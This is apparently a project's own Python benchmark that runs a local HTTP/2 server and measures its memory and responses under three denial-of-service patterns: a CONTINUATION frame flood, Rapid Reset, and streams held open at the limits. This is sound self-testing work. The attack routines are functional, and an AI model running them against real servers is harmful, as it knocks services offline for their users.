"""
python -m bench.h2flood: what HTTP/2 connections cost a real server, and
what the attacks of issue 12 do to it.

It starts twistd rendezvous of this working tree on a TLS listener (ALPN
"h2", with a certificate it makes), drives it with the h2 library (and raw
frames from hyperframe) over loopback, and prints one JSON line: the
server's resident memory (from /proc) before and after, and what the server
answered.

    python -m bench.h2flood limits --connections 50
    python -m bench.h2flood held --connections 40 --streams 100 --body 10000 --hold 20
    python -m bench.h2flood continuation --megabytes 64
    python -m bench.h2flood rapid-reset --count 20000

limits holds every connection at its limits (every stream it may open, each
with a header block of --max-header-bytes and a body one byte short of
--max-bytes, still coming) and prints the memory per connection beside the
budget's price for one (rendezvous_twisted.core.budget).  Extra server options
follow --:

    python -m bench.h2flood limits -- --max-streams-per-connection=4
"""

from __future__ import annotations

import argparse
import datetime
import json
import os
import select
import socket
import ssl
import sys
import tempfile
import time
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from hyperframe.frame import ContinuationFrame, HeadersFrame

from bench.servers import Probe, Server

#: What a failure inside the server prints: a traceback, an unhandled error
#: in a Deferred, or an event at level error or critical.
TROUBLE = (b"Traceback", b"Unhandled", b"#error]", b"#critical]")
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def write_certificate(directory: Path) -> tuple[Path, Path]:
    """
    A self-signed certificate for 127.0.0.1 and its key, written in
    C{directory}: (certificate file, key file).
    """
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "localhost")])
    now = datetime.datetime.now(datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("localhost")]), critical=False)
        .sign(key, hashes.SHA256())
    )
    cert_file, key_file = directory / "cert.pem", directory / "key.pem"
    cert_file.write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    key_file.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return cert_file, key_file


def start_tls_server(directory: Path, *options: str) -> Server:
    """
    Start C{twistd -n rendezvous} on a TLS listener on 127.0.0.1, with the
    rate limits and connection caps out of the way of one-address floods,
    then C{options}, which win.  Its output is kept (L{Server.output}).
    """
    cert, key = write_certificate(directory)
    twistd = Path(sys.executable).parent / "twistd"
    argv = [
        str(twistd), "-n", "--pidfile=", "--logfile=-", "rendezvous",
        "--listen=ssl:0:interface=127.0.0.1", f"--tls-cert={cert}", f"--tls-key={key}",
        "--request-burst=1000000", "--request-per-second=1000000",
        "--create-burst=1000000", "--create-per-second=1000000",
        "--max-connections-per-address=4096", "--max-rendezvous-per-address=10000",
        *options,
    ]  # fmt: skip
    return Server("twistd rendezvous (TLS)", argv, None).ready()


def trouble(output: str) -> list[str]:
    """
    The lines of a server's output that show a failure inside it.
    """
    words = [w.decode("ascii") for w in TROUBLE]
    return [line for line in output.splitlines() if any(w in line for w in words)]


class Peer:
    """
    One HTTP/2 client connection over TLS, driven without blocking: it
    collects what the server sends (responses, resets, GOAWAY), and
    acknowledges received data as a well-behaved client does.
    """

    def __init__(self, port: int, source: str | None = None, timeout: float = 10.0) -> None:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(
            ("127.0.0.1", port), timeout=timeout, source_address=(source, 0) if source else None
        )
        self.sock = context.wrap_socket(raw, server_hostname="localhost")
        assert self.sock.selected_alpn_protocol() == "h2", "the server did not pick h2"
        self.sock.setblocking(False)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.conn.initiate_connection()
        self.outgoing = bytearray(self.conn.data_to_send())
        self.settings_seen = False
        self.statuses: dict[int, int] = {}
        self.etags: dict[int, str] = {}
        self.bodies: dict[int, bytearray] = {}
        self.ended: set[int] = set()
        self.reset: dict[int, int] = {}
        self.goaway: int | None = None
        self.eof = False

    def fileno(self) -> int:
        return self.sock.fileno()

    @property
    def closed(self) -> bool:
        return self.eof or self.goaway is not None

    def send_raw(self, data: bytes) -> None:
        """
        Queue bytes to send as they are (frames built by hand).
        """
        self.outgoing += data

    def queue(self) -> None:
        """
        Queue what the h2 state machine has to send.
        """
        self.outgoing += self.conn.data_to_send()

    def flush(self) -> bool:
        """
        Send what is queued, as far as the socket takes it now; whether all
        of it went.
        """
        while self.outgoing and not self.eof:
            try:
                sent = self.sock.send(self.outgoing[:65536])
            except (ssl.SSLWantWriteError, BlockingIOError):
                return False
            except OSError:
                self.eof = True
                return False
            del self.outgoing[:sent]
        return not self.outgoing

    def read(self) -> None:
        """
        Take and handle whatever the server has sent.
        """
        for _ in range(1000):
            try:
                data = self.sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                break
            except OSError:
                self.eof = True
                break
            if not data:
                self.eof = True
                break
            self.handle(data)
        self.queue()

    def handle(self, data: bytes) -> None:
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.eof = True
            return
        for event in events:
            if isinstance(event, h2.events.RemoteSettingsChanged):
                self.settings_seen = True
            elif isinstance(event, h2.events.ResponseReceived):
                fields = dict(event.headers)
                self.statuses[event.stream_id] = int(fields[b":status"])
                if b"etag" in fields:
                    self.etags[event.stream_id] = fields[b"etag"].decode("ascii")
            elif isinstance(event, h2.events.DataReceived):
                self.bodies.setdefault(event.stream_id, bytearray()).extend(event.data)
                self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.StreamEnded):
                self.ended.add(event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                self.reset[event.stream_id] = int(event.error_code or 0)
            elif isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = int(event.error_code or 0)

    def flushed(self) -> bool:
        """
        Whether everything queued went, or the connection is gone.
        """
        return not self.outgoing or self.eof

    def close(self) -> None:
        self.sock.close()


def pump(peers: Iterable[Peer], until: Callable[[], bool], seconds: float) -> bool:
    """
    Read from and write to C{peers} until C{until()} holds (True) or
    C{seconds} pass (False).
    """
    deadline = time.monotonic() + seconds
    peers = list(peers)
    for _ in range(10_000_000):
        if until():
            return True
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            return until()
        live = [p for p in peers if not p.eof]
        if not live:
            return until()
        writing = [p for p in live if p.outgoing]
        readable, writable, _ = select.select(live, writing, [], min(remaining, 0.5))
        for peer in readable:
            peer.read()
        for peer in writable:
            peer.flush()
        for peer in live:
            if peer.sock.pending():
                peer.read()
    return until()


def connect(port: int, count: int, source: str | None = None) -> list[Peer]:
    """
    C{count} connections that have seen the server's SETTINGS.
    """
    peers = []
    for _ in range(count):
        peer = Peer(port, source)
        # Its preface at once: a connection that says nothing for the
        # header deadline is closed.
        pump([peer], peer.flushed, 10)
        peers.append(peer)
    pump(peers, lambda: all(p.settings_seen or p.eof for p in peers), 30)
    return peers


def request_fields(method: str, path: str, extra: Sequence[tuple[str, str]] = ()) -> list[Any]:
    return [
        (":method", method),
        (":path", path),
        (":scheme", "https"),
        (":authority", "localhost"),
        *extra,
    ]


def send_what_fits(peer: Peer, stream: int, body: bytearray) -> None:
    """
    Send as much of C{body} (what is left of it, consumed as it goes) as the
    server's flow-control windows allow, without ending the stream.
    """
    if peer.eof or not body or stream in peer.reset or peer.goaway is not None:
        return
    try:
        room = min(peer.conn.local_flow_control_window(stream), len(body))
    except h2.exceptions.StreamClosedError:
        body.clear()
        return
    size = peer.conn.max_outbound_frame_size
    while room > 0:
        chunk = min(room, size)
        peer.conn.send_data(stream, bytes(body[:chunk]))
        del body[:chunk]
        room -= chunk


def rss(server: Server) -> int:
    return server.probe.rss_bytes()


def settle(peers: Sequence[Peer], pid: int, seconds: float = 60.0) -> bool:
    """
    Pump C{peers} until the server process C{pid} has caught up (under 5%
    of a CPU over half a second), so that what it holds is measured only
    once it has read everything it was sent; whether it did within
    C{seconds}.
    """
    probe = Probe(pid)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        used = probe.cpu_seconds()
        pump(peers, lambda: False, 0.5)
        if probe.cpu_seconds() - used < 0.025:
            return True
    return False


@dataclass
class Held:
    """
    Streams opened and held open with unfinished bodies, on many connections.
    """

    peers: list[Peer]
    streams: dict[Peer, dict[int, bytearray]] = field(default_factory=dict)

    def keep_sending(self) -> None:
        for peer, bodies in self.streams.items():
            for stream, rest in bodies.items():
                send_what_fits(peer, stream, rest)
            peer.queue()

    def ping(self) -> None:
        for peer in self.peers:
            if not peer.closed:
                peer.conn.ping(os.urandom(8))
                peer.queue()

    def answered(self) -> dict[str, int]:
        """
        How the server ended the held streams: by status, RST_STREAM code,
        GOAWAY, or not at all.
        """
        counts: dict[str, int] = {}
        for peer, bodies in self.streams.items():
            for stream in bodies:
                if stream in peer.statuses:
                    key = f"status {peer.statuses[stream]}"
                elif stream in peer.reset:
                    key = f"reset {h2.errors.ErrorCodes(peer.reset[stream]).name}"
                elif peer.goaway is not None or peer.eof:
                    key = "connection closed"
                else:
                    key = "still open"
                counts[key] = counts.get(key, 0) + 1
        return counts


def hold(
    port: int,
    connections: int,
    streams: int,
    body: int,
    header_bytes: int = 0,
    declare_length: bool = False,
) -> Held:
    """
    Open C{connections} connections and on each up to C{streams} POST
    streams (no more than the server's SETTINGS allow), each with C{body}
    bytes of a body that does not end, sent as far as the server's windows
    let it; C{header_bytes} of extra header (one field) on each.
    """
    held = Held(connect(port, connections))
    extra: list[tuple[str, str]] = []
    if header_bytes:
        # Eight fields (each counts 32 bytes more in the header list's size).
        extra += [(f"x-padding-{i}", "p" * (header_bytes // 8 - 48)) for i in range(8)]
    if declare_length:
        extra.append(("content-length", str(body + 1)))
    for peer in held.peers:
        if peer.eof:
            continue
        allowed = peer.conn.remote_settings.max_concurrent_streams
        bodies: dict[int, bytearray] = {}
        for _ in range(min(streams, allowed)):
            stream = peer.conn.get_next_available_stream_id()
            peer.conn.send_headers(stream, request_fields("POST", "/", extra))
            bodies[stream] = bytearray(b"b" * body)
            send_what_fits(peer, stream, bodies[stream])
        held.streams[peer] = bodies
        peer.queue()
    pump(held.peers, lambda: all(not p.outgoing for p in held.peers), 30)
    return held


def continuation_flood(port: int, megabytes: float, frame_bytes: int = 16384) -> dict[str, Any]:
    """
    On one connection, a HEADERS frame without END_HEADERS and then
    CONTINUATION frames, never ending the block, until C{megabytes} went or
    the server stops reading.
    """
    [peer] = connect(port, 1)
    start = HeadersFrame(1)
    start.data = peer.conn.encoder.encode(request_fields("GET", "/"))
    peer.send_raw(start.serialize())
    frame = ContinuationFrame(1)
    frame.data = b"\x00" * frame_bytes
    chunk = frame.serialize() * 16
    total = int(megabytes * 2**20)
    sent = 0
    deadline = time.monotonic() + 120
    while sent < total and not peer.eof and time.monotonic() < deadline:
        if len(peer.outgoing) < len(chunk):
            peer.send_raw(chunk)
            sent += len(chunk)
        # Never reading: whatever the server says (GOAWAY, TLS close_notify)
        # is ignored, as an attacker does.
        if not peer.flush():
            _, writable, _ = select.select([], [peer], [], 2.0)
            if not writable:
                break  # the server stopped reading
    written = sent - len(peer.outgoing)
    # What the server did meanwhile, read now.
    pump([peer], lambda: peer.closed, 1.0)
    return {"peer": peer, "sent_bytes": written, "server_closed": peer.closed}


def create(port: int) -> tuple[str, str]:
    """
    Create a rendezvous; its path and ETag.
    """
    [peer] = connect(port, 1)
    try:
        stream = peer.conn.get_next_available_stream_id()
        fields = request_fields("POST", "/", [("content-length", "5")])
        peer.conn.send_headers(stream, fields)
        peer.conn.send_data(stream, b"hello", end_stream=True)
        peer.queue()
        pump([peer], lambda: stream in peer.ended or peer.closed, 10)
        rid = json.loads(bytes(peer.bodies[stream]))["id"]
        etag = peer.etags[stream]
        return "/" + rid, etag
    finally:
        peer.close()


def rapid_reset(port: int, count: int, batch: int = 100) -> dict[str, Any]:
    """
    C{count} times HEADERS then RST_STREAM at once, in batches of C{batch}
    per write, on a GET of a rendezvous that exists: a read answered at
    once, a parked read and an unknown id in turn.  A connection the server
    closes is replaced.
    """
    path, etag = create(port)
    kinds = [
        request_fields("GET", path),
        request_fields("GET", path, [("if-none-match", etag)]),
        request_fields("GET", "/abcdefghijklmnopqrstuv"),
    ]
    peers: list[Peer] = []
    peer: Peer | None = None
    done = 0
    deadline = time.monotonic() + 120
    while done < count and time.monotonic() < deadline:
        if peer is None or peer.closed:
            peer = connect(port, 1)[0]
            peers.append(peer)
        for _ in range(min(batch, count - done)):
            stream = peer.conn.get_next_available_stream_id()
            peer.conn.send_headers(stream, kinds[done % len(kinds)], end_stream=True)
            peer.conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
            done += 1
        peer.queue()
        pump([peer], peer.flushed, 10)
        peer.read()
    last = peers[-1]
    pump(peers, lambda: False, 0.5)
    for one in peers[:-1]:
        one.close()
    return {
        "peer": last,
        "resets_sent": done,
        "connections": len(peers),
        "goaway_codes": sorted({p.goaway for p in peers if p.goaway is not None}),
    }


def exchange(port: int, source: str | None = None) -> bool:
    """
    An honest client's whole exchange on a connection of its own: create,
    read, write, read the update.
    """
    [peer] = connect(port, 1, source)
    try:
        conn = peer.conn
        stream = conn.get_next_available_stream_id()
        conn.send_headers(
            stream, request_fields("POST", "/", [("content-length", "5")]), end_stream=False
        )
        conn.send_data(stream, b"hello", end_stream=True)
        peer.queue()
        pump([peer], lambda: stream in peer.ended or peer.closed, 10)
        if peer.statuses.get(stream) != 200:
            return False
        rid = json.loads(bytes(peer.bodies[stream]))["id"]
        read = conn.get_next_available_stream_id()
        conn.send_headers(read, request_fields("GET", "/" + rid), end_stream=True)
        peer.queue()
        pump([peer], lambda: read in peer.ended or peer.closed, 10)
        return peer.statuses.get(read) == 200 and bytes(peer.bodies.get(read, b"")) == b"hello"
    finally:
        peer.close()


def budget_per_connection(options: Sequence[str]) -> int:
    """
    The budget's price of one connection at the limits C{options} set.
    """
    from rendezvous_twisted import tap
    from rendezvous_twisted.core import budget

    parsed = tap.Options()
    parsed.parseOptions(["--listen=tcp:0", *options])
    config = parsed["config"]
    return budget.http2_connection_bytes(config)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m bench.h2flood",
        description=__doc__,
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("attack", choices=("limits", "held", "continuation", "rapid-reset"))
    parser.add_argument("--connections", type=int, default=40)
    parser.add_argument("--streams", type=int, default=100, help="held: streams per connection")
    parser.add_argument("--body", type=int, default=10000, help="held: body bytes per stream")
    parser.add_argument("--hold", type=float, default=5.0, help="seconds to hold, with PINGs")
    parser.add_argument("--megabytes", type=float, default=64.0, help="continuation: MB sent")
    parser.add_argument("--count", type=int, default=20000, help="rapid-reset: resets")
    argv = list(sys.argv[1:] if argv is None else argv)
    server_options = argv[argv.index("--") + 1 :] if "--" in argv else []
    args = parser.parse_args(argv[: argv.index("--")] if "--" in argv else argv)
    args.server_options = server_options
    with tempfile.TemporaryDirectory() as directory:
        server = start_tls_server(Path(directory), *args.server_options)
        try:
            report = run(server, args)
        finally:
            # All it printed: some failures (an unhandled error in a
            # Deferred) are only logged as it stops.
            output = server.stop(grace_seconds=15)
    report["server_trouble_lines"] = trouble(output)
    print(json.dumps(report))
    return 0


def run(server: Server, args: argparse.Namespace) -> dict[str, Any]:
    port = server.port
    # A first exchange warms the server up (imports, caches) before the
    # baseline is read.
    warm = exchange(port)
    before = rss(server)
    report: dict[str, Any] = {"attack": args.attack, "warm_exchange": warm}
    if args.attack in ("limits", "held"):
        if args.attack == "limits":
            from rendezvous_twisted import tap

            parsed = tap.Options()
            parsed.parseOptions(["--listen=tcp:0", *args.server_options])
            config = parsed["config"]
            streams = 1_000_000
            body = config.max_bytes - 1
            header = config.max_header_bytes - 400
            held = hold(port, args.connections, streams, body, header, declare_length=True)
        else:
            held = hold(port, args.connections, args.streams, args.body)
        settle(held.peers, server.proc.pid)
        pings = 0
        deadline = time.monotonic() + args.hold
        while time.monotonic() < deadline:
            held.ping()
            held.keep_sending()
            pings += 1
            pump(held.peers, lambda: False, min(1.0, max(0.0, deadline - time.monotonic())))
        after = rss(server)
        report["honest_exchange"] = exchange(port, "127.0.0.2")
        per = (after - before) / args.connections
        report.update(
            connections=args.connections,
            streams_open=sum(len(b) for b in held.streams.values()),
            answered=held.answered(),
            rss_before=before,
            rss_after=after,
            rss_per_connection=round(per),
        )
        if args.attack == "limits":
            report["budget_per_connection"] = budget_per_connection(args.server_options)
            report["summary"] = (
                f"measured {per / 1024:.1f} KiB per HTTP/2 connection at its limits vs budget "
                f"{report['budget_per_connection'] / 1024:.1f} KiB"
            )
        for peer in held.peers:
            peer.close()
    else:
        if args.attack == "continuation":
            attack = continuation_flood(port, args.megabytes)
        else:
            attack = rapid_reset(port, args.count)
        after = rss(server)
        report["honest_exchange"] = exchange(port, "127.0.0.2")
        attack.pop("peer").close()
        report.update(attack, rss_before=before, rss_after=after, rss_growth=after - before)
    return report


if __name__ == "__main__":
    raise SystemExit(main())
